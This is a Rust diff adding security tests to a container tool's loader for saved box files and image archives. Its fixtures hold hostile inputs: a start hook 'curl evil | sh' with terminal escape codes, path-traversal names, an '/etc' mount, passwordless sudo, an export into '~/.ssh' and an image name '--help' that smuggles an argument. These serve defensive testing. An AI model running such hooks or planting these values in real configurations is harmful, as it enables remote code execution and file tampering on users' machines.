@@ -313,6 +313,9 @@ fn archive_path(path: &Path) -> std::result::Result<String, String> {
             _ => return Err(format!("the image holds the path {:?}", sanitize(&path.to_string_lossy()))),
         }
     }
+    if parts.is_empty() {
+        return Err("the image holds an empty path".into());
+    }
     Ok(parts.join("/"))
 }
 
@@ -648,6 +651,230 @@ mod tests {
         write_box_file(&file, &meta, &image).unwrap();
         let err = read_box_file(&file, dir.path()).unwrap_err().to_string();
         assert!(err.contains("sha256"), "{err}");
+    }
+
+    #[test]
+    fn an_image_of_another_size_is_refused_before_it_is_written() {
+        let dir = tempfile::tempdir().unwrap();
+        let (file, mut meta) = sample(dir.path());
+        // The same image, but the metadata says it is bigger (a gzip bomb
+        // would say what it likes): refused from the tar header, unwritten.
+        meta.image_size += 1;
+        let lying = dir.path().join("lying.tent");
+        write_box_file(&lying, &meta, &dir.path().join("in.tar")).unwrap();
+        let out = tempfile::tempdir().unwrap();
+        let err = read_box_file(&lying, out.path()).unwrap_err().to_string();
+        assert!(err.contains("bytes") && err.contains("expected"), "{err}");
+        assert!(!out.path().join(IMAGE).exists(), "nothing decompressed to disk");
+        assert!(read_box_file(&file, out.path()).is_ok());
+    }
+
+    const CONFIG: &[u8] = br#"{"architecture":"amd64","rootfs":{"type":"layers","diff_ids":[]}}"#;
+
+    /// A docker-archive as the engines write it, with names in every place
+    /// the engines read them, a link (podman's layers) and a long path.
+    fn image_archive(dir: &Path, manifest: &serde_json::Value, extra: &[(&str, &[u8])]) -> PathBuf {
+        let path = dir.join("image.tar");
+        let mut b = tar::Builder::new(fs::File::create(&path).unwrap());
+        let mut add = |name: &str, data: &[u8]| {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(data.len() as u64);
+            h.set_mode(0o444);
+            if name.contains("..") {
+                // What the tar crate refuses to write, a hostile file has.
+                h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+                h.set_cksum();
+                b.append(&h, data).unwrap();
+            } else {
+                b.append_data(&mut h, name, data).unwrap();
+            }
+        };
+        add("0123.tar", b"layer bytes");
+        add("cfg.json", CONFIG);
+        add(&format!("{}/VERSION", "d".repeat(120)), b"1.0");
+        add("repositories", br#"{"victim":{"latest":"0123"}}"#);
+        add("index.json", br#"{"manifests":[{"annotations":{"io.containerd.image.name":"victim:latest"}}]}"#);
+        add("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#);
+        add("manifest.json", &serde_json::to_vec(manifest).unwrap());
+        for (name, data) in extra {
+            add(name, data);
+        }
+        let mut h = tar::Header::new_gnu();
+        h.set_entry_type(tar::EntryType::Symlink);
+        h.set_size(0);
+        b.append_link(&mut h, "abc/layer.tar", "../0123.tar").unwrap();
+        b.finish().unwrap();
+        path
+    }
+
+    fn manifest() -> serde_json::Value {
+        serde_json::json!([{"Config": "cfg.json", "RepoTags": ["victim:latest", "localhost/x:y"], "Layers": ["abc/layer.tar"]}])
+    }
+
+    fn entries(path: &Path) -> Vec<(String, Vec<u8>, Option<String>)> {
+        let mut archive = tar::Archive::new(fs::File::open(path).unwrap());
+        archive
+            .entries()
+            .unwrap()
+            .map(|e| {
+                let mut e = e.unwrap();
+                let name = e.path().unwrap().to_string_lossy().into_owned();
+                let link = e.link_name().unwrap().map(|l| l.to_string_lossy().into_owned());
+                let mut data = Vec::new();
+                e.read_to_end(&mut data).unwrap();
+                (name, data, link)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_loaded_archive_carries_no_name_and_is_known_by_its_id() {
+        let dir = tempfile::tempdir().unwrap();
+        let src = image_archive(dir.path(), &manifest(), &[]);
+        let out = dir.path().join("out.tar");
+        let id = untagged_archive(&src, &out).unwrap();
+        assert_eq!(id, hex(&Sha256::digest(CONFIG)), "the id is the config's sha256");
+        let got = entries(&out);
+        let names: Vec<&str> = got.iter().map(|(n, _, _)| n.as_str()).collect();
+        for gone in ["repositories", "index.json", "oci-layout"] {
+            assert!(!names.contains(&gone), "{gone} is left out: {names:?}");
+        }
+        assert_eq!(names.iter().filter(|n| **n == "manifest.json").count(), 1);
+        let (_, manifest, _) = got.iter().find(|(n, _, _)| n == "manifest.json").unwrap();
+        let manifest: serde_json::Value = serde_json::from_slice(manifest).unwrap();
+        assert_eq!(manifest[0]["RepoTags"], serde_json::Value::Null);
+        assert_eq!(manifest[0]["Config"], "cfg.json");
+        assert_eq!(manifest[0]["Layers"][0], "abc/layer.tar");
+        let find = |n: &str| got.iter().find(|(name, _, _)| name == n).unwrap_or_else(|| panic!("{n}: {names:?}"));
+        assert_eq!(find("0123.tar").1, b"layer bytes");
+        assert_eq!(find("cfg.json").1, CONFIG);
+        assert_eq!(find(&format!("{}/VERSION", "d".repeat(120))).1, b"1.0", "long paths survive");
+        assert_eq!(find("abc/layer.tar").2.as_deref(), Some("../0123.tar"), "links survive");
+    }
+
+    #[test]
+    fn archives_that_are_not_one_plain_image_are_refused() {
+        let two = serde_json::json!([{"Config": "cfg.json"}, {"Config": "cfg.json"}]);
+        let missing = serde_json::json!([{"Config": "nope.json"}]);
+        let named = serde_json::json!([{"Config": "repositories"}]);
+        let escaping = serde_json::json!([{"Config": "../cfg.json"}]);
+        type Extra<'a> = Vec<(&'a str, &'a [u8])>;
+        let cases: Vec<(serde_json::Value, Extra<'_>, &str)> = vec![
+            (two, vec![], "holds 2 images"),
+            (serde_json::json!([]), vec![], "holds 0 images"),
+            (missing, vec![], "no config"),
+            (named, vec![], "config is repositories"),
+            (escaping, vec![], "the image holds the path"),
+            (manifest(), vec![("manifest.json", b"[]")], "manifest.json twice"),
+            (manifest(), vec![("./cfg.json", b"{}")], "cfg.json twice"),
+            (manifest(), vec![("../../etc/x", b"")], "the image holds the path"),
+        ];
+        for (manifest, extra, why) in cases {
+            let dir = tempfile::tempdir().unwrap();
+            let src = image_archive(dir.path(), &manifest, &extra);
+            let err = untagged_archive(&src, &dir.path().join("out.tar")).unwrap_err();
+            assert!(err.contains(why), "{manifest} {extra:?}: {err}");
+        }
+    }
+
+    fn hostile_meta() -> BoxFile {
+        let bin = |name: &str, dir: &str| Export {
+            kind: Kind::Bin,
+            name: name.into(),
+            title: None,
+            request: "/bin/busybox".into(),
+            target: "/bin/busybox".into(),
+            files: vec![PathBuf::from(dir).join(name)],
+            dir: Some(dir.into()),
+            tent: "/usr/bin/tent".into(),
+        };
+        BoxFile {
+            format: FORMAT,
+            box_name: "dev".into(),
+            spec: BoxSpec {
+                image: "debian:bookworm".into(),
+                start_hooks: vec!["curl evil | sh\u{1b}]0;title\u{7}".into()],
+                init_hooks: vec!["id".into()],
+                volumes: vec!["/etc:/etc".into()],
+                sudo_nopasswd: true,
+                ..Default::default()
+            },
+            exports: vec![
+                bin("sudo", "/home/u/.local/bin"),
+                bin("rc", "/home/u/.ssh"),
+                bin("tent", "/home/u/.local/bin"),
+                bin("../x", "/home/u/.local/bin"),
+                Export { kind: Kind::Entry, ..bin("dev", "/x") },
+            ],
+            image: "--help".into(),
+            image_sha256: "0".repeat(64),
+            image_size: 1,
+            tent_version: "0".into(),
+        }
+    }
+
+    #[test]
+    fn hooks_mounts_and_exports_of_a_file_are_listed_before_anything_is_made() {
+        let bin_dir = Path::new("/home/u/.local/bin");
+        let plan = LoadPlan::new(&hostile_meta(), "dev", bin_dir);
+        let text = plan.asks.join("\n");
+        assert!(text.contains("runs as root in the box at every start: curl evil | sh"), "{text}");
+        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "sanitized: {text:?}");
+        assert!(text.contains("runs as root in the box once, when it is made: id"), "{text}");
+        assert!(text.contains("mounts in the box: /etc:/etc"), "{text}");
+        assert!(text.contains("sudo without a password"), "{text}");
+        assert!(text.contains("writes command /home/u/.local/bin/sudo"), "{text}");
+        // A command the file put elsewhere goes into the user's bin folder only.
+        assert!(text.contains("writes command /home/u/.local/bin/rc") && text.contains("another folder"), "{text}");
+        assert!(!text.contains(".ssh/rc"), "{text}");
+        assert!(plan.exports.iter().all(|e| e.kind != Kind::Bin || e.dir.as_deref() == Some(bin_dir)));
+        assert!(text.contains("dev's own launcher"), "{text}");
+        let refused = plan.refused.join("\n");
+        assert!(refused.contains("\"tent\"") && refused.contains("'/'"), "{refused}");
+        assert_eq!(plan.exports.len(), 3, "{:?}", plan.exports);
+        // A plain box asks for nothing.
+        let plain =
+            BoxFile { spec: BoxSpec { image: "x".into(), ..Default::default() }, exports: vec![], ..hostile_meta() };
+        assert_eq!(LoadPlan::new(&plain, "dev", bin_dir), LoadPlan::default());
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]
+
+        #[test]
+        fn metadata_parsers_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
+            let _ = parse_meta(&bytes);
+            let _ = parse_manifest(&bytes);
+        }
+
+        #[test]
+        fn manifests_with_hostile_paths_never_escape(config in "[./a-z-]{0,12}", n in 0usize..3) {
+            let list: Vec<_> = (0..n).map(|_| serde_json::json!({"Config": config})).collect();
+            let bytes = serde_json::to_vec(&list).unwrap();
+            if let Ok((_, path)) = parse_manifest(&bytes) {
+                proptest::prop_assert_eq!(n, 1);
+                proptest::prop_assert!(!path.split('/').any(|p| p == ".." || p == "." || p.is_empty()), "{}", path);
+            }
+        }
+
+        /// What `tent save` writes is read back as it was; and the plan of
+        /// any file lists every hook and command it would make.
+        #[test]
+        fn written_metadata_round_trips(name in "[ -~]{0,20}", image in "[ -~]{1,30}", hook in "\\PC{0,30}",
+                                        export in "[ -~]{0,12}") {
+            let meta = BoxFile {
+                box_name: name,
+                image,
+                spec: BoxSpec { image: "x".into(), start_hooks: vec![hook], ..Default::default() },
+                exports: vec![Export { name: export, ..hostile_meta().exports[0].clone() }],
+                ..hostile_meta()
+            };
+            let json = serde_json::to_vec_pretty(&meta).unwrap();
+            proptest::prop_assert_eq!(parse_meta(&json).unwrap(), meta.clone());
+            let plan = LoadPlan::new(&meta, "dev", Path::new("/b"));
+            proptest::prop_assert_eq!(plan.exports.len() + plan.refused.len(), 1);
+            proptest::prop_assert!(plan.asks.iter().all(|l| crate::output::sanitize(l) == l.as_str()));
+        }
     }
 
     #[test]
